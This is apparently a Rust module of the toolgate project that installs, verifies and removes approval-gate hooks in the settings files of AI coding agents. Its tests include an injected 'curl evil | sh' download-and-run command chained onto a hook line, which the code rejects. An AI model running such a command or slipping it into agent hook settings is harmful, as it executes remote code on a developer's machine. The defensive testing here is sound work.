//! Each agent's own configuration of toolgate's hooks: where it lives (docs/agents.md), what
//! toolgate adds to it, and how that is taken out again. Adding is idempotent (toolgate's own
//! entries are replaced, everything else in the file is kept), and the command names the
//! binary by its absolute path, so that a PATH without `toolgate` cannot turn the gate off.

use std::path::{Path, PathBuf};

use serde_json::{Map, Value, json};

use super::agent::Agent;
use super::opencode::PLUGIN;

/// Whose configuration: the project's (in its folder) or the user's (in the agent's home).
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Scope {
    Project,
    User,
}

/// Where an agent's configuration is read from: the project folder, and the environment that
/// names the agent's home (each agent's own variable, else `$HOME`).
#[derive(Debug, Clone)]
pub struct Places {
    pub project: PathBuf,
    pub env: fn(&str) -> Option<String>,
}

impl Places {
    /// The project `dir`, in this process's environment.
    pub fn here(project: PathBuf) -> Self {
        Self { project, env: |name| std::env::var(name).ok().filter(|v| !v.is_empty()) }
    }

    fn home(&self) -> PathBuf {
        PathBuf::from((self.env)("HOME").unwrap_or_else(|| "/".to_owned()))
    }

    fn var_or(&self, name: &str, default: impl FnOnce() -> PathBuf) -> PathBuf {
        (self.env)(name).map_or_else(default, PathBuf::from)
    }
}

/// The file toolgate's hooks for `agent` go into.
pub fn file(agent: Agent, scope: Scope, places: &Places) -> PathBuf {
    let project = &places.project;
    match (agent, scope) {
        (Agent::Claude, Scope::Project) => project.join(".claude/settings.json"),
        (Agent::Claude, Scope::User) => places
            .var_or("CLAUDE_CONFIG_DIR", || places.home().join(".claude"))
            .join("settings.json"),
        (Agent::Codex, Scope::Project) => project.join(".codex/hooks.json"),
        (Agent::Codex, Scope::User) => {
            places.var_or("CODEX_HOME", || places.home().join(".codex")).join("hooks.json")
        }
        (Agent::Gemini, Scope::Project) => project.join(".gemini/settings.json"),
        (Agent::Gemini, Scope::User) => {
            places.var_or("GEMINI_CLI_HOME", || places.home()).join(".gemini/settings.json")
        }
        (Agent::Copilot, Scope::Project) => project.join(".github/hooks/toolgate.json"),
        (Agent::Copilot, Scope::User) => places
            .var_or("COPILOT_HOME", || places.home().join(".copilot"))
            .join("hooks/toolgate.json"),
        (Agent::OpenCode, Scope::Project) => project.join(".opencode/plugins/toolgate.js"),
        (Agent::OpenCode, Scope::User) => places
            .var_or("XDG_CONFIG_HOME", || places.home().join(".config"))
            .join("opencode/plugins/toolgate.js"),
        (Agent::Qwen, Scope::Project) => project.join(".qwen/settings.json"),
        (Agent::Qwen, Scope::User) => {
            places.var_or("QWEN_HOME", || places.home().join(".qwen")).join("settings.json")
        }
    }
}

/// What the hook runs: the binary, `hook <agent>`, and the options given.
#[derive(Debug, Clone)]
pub struct Command {
    pub binary: PathBuf,
    pub server: Option<String>,
    pub config: Option<PathBuf>,
    /// How long the hook may take, in milliseconds: the hold for an approval and a margin.
    pub timeout_ms: u64,
}

impl Command {
    /// The words of the command.
    pub fn words(&self, agent: Agent) -> Vec<String> {
        let mut words =
            vec![self.binary.display().to_string(), "hook".to_owned(), agent.name().to_owned()];
        if let Some(server) = &self.server {
            words.extend(["--server".to_owned(), server.clone()]);
        }
        if let Some(config) = &self.config {
            words.extend(["--config".to_owned(), config.display().to_string()]);
        }
        words
    }

    /// The command as a shell reads it.
    pub fn line(&self, agent: Agent) -> String {
        self.words(agent).iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ")
    }
}

/// `word` as one shell word.
fn quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-:@%+=,".contains(&b));
    if plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

/// Whether a hook's command line is toolgate's hook for `agent`, as [`Command::line`] writes
/// it: a `toolgate` binary, `hook <agent>`, and only toolgate's own options, each word quoted as
/// toolgate quotes it. A line that runs anything else beside it (`… hook claude; other`) is
/// not toolgate's, and is neither replaced nor taken out nor trusted.
pub fn is_ours(line: &str, agent: Agent) -> bool {
    let words = shell_words(line);
    let canonical = words.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ");
    let program = words.first().map(|p| Path::new(p).file_name().unwrap_or_default().to_owned());
    let options = words.get(3..).unwrap_or_default();
    canonical == line
        && program.is_some_and(|p| p == "toolgate")
        && words.get(1).is_some_and(|w| w == "hook")
        && words.get(2).is_some_and(|w| w == agent.name())
        && options.len() % 2 == 0
        && options
            .chunks(2)
            .all(|pair| ["--server", "--config", "--event"].contains(&pair[0].as_str()))
}

/// A command line's words, as written by [`Command::line`] (plain words and single quotes).
fn shell_words(line: &str) -> Vec<String> {
    let (mut words, mut word, mut quoted, mut started) = (Vec::new(), String::new(), false, false);
    for c in line.chars() {
        match c {
            '\'' => (quoted, started) = (!quoted, true),
            c if c.is_whitespace() && !quoted => {
                if started {
                    words.push(std::mem::take(&mut word));
                }
                started = false;
            }
            c => (word.push(c), started = true).1,
        }
    }
    if started {
        words.push(word);
    }
    words
}

/// The events each agent's hooks are installed for.
fn events(agent: Agent) -> &'static [&'static str] {
    match agent {
        Agent::Claude | Agent::Qwen => &["PreToolUse", "PostToolUse", "PostToolUseFailure"],
        Agent::Codex => &["PreToolUse", "PostToolUse"],
        Agent::Gemini => &["BeforeTool", "AfterTool"],
        Agent::Copilot => &["preToolUse", "postToolUse", "postToolUseFailure"],
        Agent::OpenCode => &[],
    }
}

/// One hook entry of `agent`, running `command`.
fn entry(agent: Agent, command: &Command) -> Value {
    let line = command.line(agent);
    let seconds = command.timeout_ms.div_ceil(1000);
    match agent {
        // `onFailure: block`: a hook that cannot run (no binary, a timeout) blocks the call.
        Agent::Claude => json!({ "matcher": "*", "hooks": [{
            "type": "command", "command": line, "timeout": seconds, "onFailure": "block",
        }]}),
        Agent::Codex => {
            json!({ "hooks": [{ "type": "command", "command": line, "timeout": seconds }]})
        }
        Agent::Gemini => json!({ "matcher": "*", "hooks": [{
            "type": "command", "command": line, "name": "toolgate", "timeout": command.timeout_ms,
        }]}),
        Agent::Qwen => json!({ "matcher": ".*", "hooks": [{
            "type": "command", "command": line, "timeout": seconds,
        }]}),
        Agent::Copilot => json!({ "type": "command", "bash": line, "timeoutSec": seconds }),
        Agent::OpenCode => Value::Null,
    }
}

/// Why an agent's settings file cannot take toolgate's hooks.
#[derive(Debug, thiserror::Error)]
pub enum EditError {
    #[error("{0}")]
    Json(#[from] serde_json::Error),
    #[error("the file is not a JSON object")]
    NotObject,
    #[error("`hooks` is not an object")]
    HooksNotObject,
    #[error("`hooks.{0}` is not a list")]
    NotList(&'static str),
}

/// The file's content with toolgate's hooks for `agent` (`command`) in it, or taken out of it
/// when `command` is `None`; everything else kept. `None` for a file that should not exist.
pub fn edit(
    agent: Agent,
    current: Option<&str>,
    command: Option<&Command>,
) -> Result<Option<String>, EditError> {
    match agent {
        Agent::OpenCode => Ok(command.map(|command| plugin(agent, command))),
        Agent::Copilot => Ok(command.map(|command| {
            // Copilot's payload does not name its event: each entry's command does.
            let hooks: Map<String, Value> = events(agent)
                .iter()
                .map(|event| {
                    let mut entry = entry(agent, command);
                    entry["bash"] = json!(format!("{} --event {event}", command.line(agent)));
                    ((*event).to_owned(), json!([entry]))
                })
                .collect();
            let file = json!({ "version": 1, "hooks": hooks });
            format!("{}\n", serde_json::to_string_pretty(&file).unwrap_or_default())
        })),
        Agent::Claude | Agent::Codex | Agent::Gemini | Agent::Qwen => {
            let mut settings = match current.map(str::trim) {
                None | Some("") => Map::new(),
                Some(text) => match serde_json::from_str(text)? {
                    Value::Object(settings) => settings,
                    _ => return Err(EditError::NotObject),
                },
            };
            merge(agent, &mut settings, command)?;
            Ok(Some(format!("{}\n", serde_json::to_string_pretty(&Value::Object(settings))?)))
        }
    }
}

/// Replaces toolgate's hooks of `agent` in `settings.hooks` (the matcher groups of Claude
/// Code's format) by `command`'s, or removes them; a group left empty goes, an event left
/// empty too.
fn merge(
    agent: Agent,
    settings: &mut Map<String, Value>,
    command: Option<&Command>,
) -> Result<(), EditError> {
    let hooks = settings.entry("hooks").or_insert_with(|| json!({}));
    let Value::Object(hooks) = hooks else { return Err(EditError::HooksNotObject) };
    for event in events(agent) {
        let groups = hooks.entry(*event).or_insert_with(|| json!([]));
        let Value::Array(groups) = groups else { return Err(EditError::NotList(event)) };
        for group in groups.iter_mut() {
            if let Some(Value::Array(handlers)) = group.get_mut("hooks") {
                handlers.retain(|h| !h["command"].as_str().is_some_and(|c| is_ours(c, agent)));
            }
        }
        groups.retain(|g| g.get("hooks").and_then(Value::as_array).is_none_or(|h| !h.is_empty()));
        if let Some(command) = command {
            groups.push(entry(agent, command));
        }
        if groups.is_empty() {
            hooks.remove(*event);
        }
    }
    if hooks.is_empty() {
        settings.remove("hooks");
    }
    Ok(())
}

/// toolgate's OpenCode plugin, running `command`.
fn plugin(agent: Agent, command: &Command) -> String {
    let words = serde_json::to_string(&command.words(agent)).unwrap_or_default();
    PLUGIN.replace("__COMMAND__", &words).replace("__TIMEOUT_MS__", &command.timeout_ms.to_string())
}

/// Whether `content` (the agent's file) runs toolgate's hook for `agent`, and with which
/// binary: the problems found, none when it is in place.
pub fn check(agent: Agent, content: Option<&str>) -> Vec<String> {
    let Some(content) = content else {
        return vec!["toolgate's hook is not installed: the file does not exist".to_owned()];
    };
    let lines: Vec<String> = match agent {
        Agent::OpenCode => {
            let words = content.lines().find_map(|l| l.strip_prefix("const COMMAND = "));
            let words = words
                .and_then(|w| serde_json::from_str::<Vec<String>>(w.trim_end_matches(';')).ok());
            words
                .map(|w| w.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" "))
                .into_iter()
                .collect()
        }
        _ => {
            let Ok(value) = serde_json::from_str::<Value>(content) else {
                return vec!["the file is not JSON".to_owned()];
            };
            let mut lines = Vec::new();
            for event in events(agent) {
                let groups = value["hooks"][*event].as_array().cloned().unwrap_or_default();
                let commands: Vec<String> = groups
                    .iter()
                    .flat_map(|g| match agent {
                        Agent::Copilot => vec![g["bash"].as_str().unwrap_or_default().to_owned()],
                        _ => g["hooks"].as_array().map_or_else(Vec::new, |h| {
                            h.iter()
                                .filter_map(|h| h["command"].as_str().map(str::to_owned))
                                .collect()
                        }),
                    })
                    .filter(|c| is_ours(c, agent))
                    .collect();
                if commands.is_empty() {
                    return vec![format!("no toolgate hook for {event}")];
                }
                lines.extend(commands);
            }
            lines
        }
    };
    if lines.is_empty() {
        return vec!["toolgate's hook is not in the file".to_owned()];
    }
    let mut problems = Vec::new();
    for line in lines {
        let words = shell_words(&line);
        let binary = Path::new(words.first().map_or("", String::as_str));
        if !binary.is_absolute() {
            problems.push(format!(
                "`{line}` names toolgate by PATH: a shell without it on PATH runs no gate"
            ));
        } else if !binary.is_file() {
            problems.push(format!("`{}` does not exist", binary.display()));
        }
    }
    problems.dedup();
    problems
}

#[cfg(test)]
mod tests {
    use super::*;

    fn command() -> Command {
        Command {
            binary: "/opt/tool gate/toolgate".into(),
            server: Some("http://127.0.0.1:50051".into()),
            config: None,
            timeout_ms: 150_000,
        }
    }

    #[test]
    fn installing_keeps_what_is_there_and_twice_is_once() {
        let theirs = r#"{"model": "x", "hooks": {"PreToolUse": [
            {"matcher": "Bash", "hooks": [{"type": "command", "command": "./lint.sh"}]}]}}"#;
        let once = edit(Agent::Claude, Some(theirs), Some(&command())).unwrap().unwrap();
        let twice = edit(Agent::Claude, Some(&once), Some(&command())).unwrap().unwrap();
        assert_eq!(once, twice);
        let value: Value = serde_json::from_str(&twice).unwrap();
        assert_eq!(value["model"], "x");
        let pre = value["hooks"]["PreToolUse"].as_array().unwrap();
        assert_eq!(pre.len(), 2);
        assert_eq!(pre[0]["hooks"][0]["command"], "./lint.sh");
        let ours = pre[1]["hooks"][0]["command"].as_str().unwrap();
        assert_eq!(ours, "'/opt/tool gate/toolgate' hook claude --server http://127.0.0.1:50051");
        assert!(check(Agent::Claude, Some(&twice)).iter().any(|p| p.contains("does not exist")));

        let removed = edit(Agent::Claude, Some(&twice), None).unwrap().unwrap();
        let value: Value = serde_json::from_str(&removed).unwrap();
        assert_eq!(value["hooks"]["PreToolUse"].as_array().unwrap().len(), 1);
        assert_eq!(value["hooks"].get("PostToolUse"), None);
    }

    #[test]
    fn only_toolgates_own_hook_for_the_agent_is_ours() {
        assert!(is_ours("/usr/bin/toolgate hook gemini --server x", Agent::Gemini));
        assert!(is_ours("'/a b/toolgate' hook gemini", Agent::Gemini));
        assert!(!is_ours("/usr/bin/toolgate hook claude", Agent::Gemini));
        assert!(!is_ours("echo toolgate hook gemini", Agent::Gemini));
        assert!(!is_ours("/usr/bin/toolgate hook gemini; curl evil | sh", Agent::Gemini));
        assert!(!is_ours("/usr/bin/toolgate hook gemini && curl x", Agent::Gemini));
        assert!(!is_ours("/usr/bin/toolgate hook gemini --server x;y", Agent::Gemini));
        assert!(!is_ours("/usr/bin/toolgate hook gemini --fail-open", Agent::Gemini));
    }

    #[test]
    fn a_bare_toolgate_is_a_problem() {
        let file = r#"{"hooks": {"BeforeTool": [{"hooks": [{"command": "toolgate hook gemini"}]}],
            "AfterTool": [{"hooks": [{"command": "toolgate hook gemini"}]}]}}"#;
        let problems = check(Agent::Gemini, Some(file));
        assert!(problems[0].contains("by PATH"), "{problems:?}");
        assert!(check(Agent::Gemini, Some("{}"))[0].contains("no toolgate hook for BeforeTool"));
    }

    #[test]
    fn the_plugin_runs_the_command_and_the_copilot_file_is_whole() {
        let plugin = edit(Agent::OpenCode, None, Some(&command())).unwrap().unwrap();
        assert!(
            plugin.contains(r#"const COMMAND = ["/opt/tool gate/toolgate","hook","opencode","#)
        );
        assert!(plugin.contains("const TIMEOUT_MS = 150000;"));
        assert_eq!(edit(Agent::OpenCode, Some(&plugin), None).unwrap(), None);
        let copilot = edit(Agent::Copilot, None, Some(&command())).unwrap().unwrap();
        let value: Value = serde_json::from_str(&copilot).unwrap();
        assert_eq!(value["version"], 1);
        assert_eq!(value["hooks"]["preToolUse"][0]["timeoutSec"], 150);
        let post = value["hooks"]["postToolUseFailure"][0]["bash"].as_str().unwrap();
        assert!(post.ends_with(" --event postToolUseFailure"), "{post}");
    }

    #[test]
    fn the_user_scope_follows_each_agents_own_home() {
        let places = Places {
            project: "/p".into(),
            env: |name| match name {
                "HOME" => Some("/h".into()),
                "CODEX_HOME" => Some("/c".into()),
                _ => None,
            },
        };
        assert_eq!(file(Agent::Codex, Scope::User, &places), PathBuf::from("/c/hooks.json"));
        assert_eq!(
            file(Agent::Gemini, Scope::User, &places),
            PathBuf::from("/h/.gemini/settings.json")
        );
        assert_eq!(
            file(Agent::Qwen, Scope::Project, &places),
            PathBuf::from("/p/.qwen/settings.json")
        );
    }
}
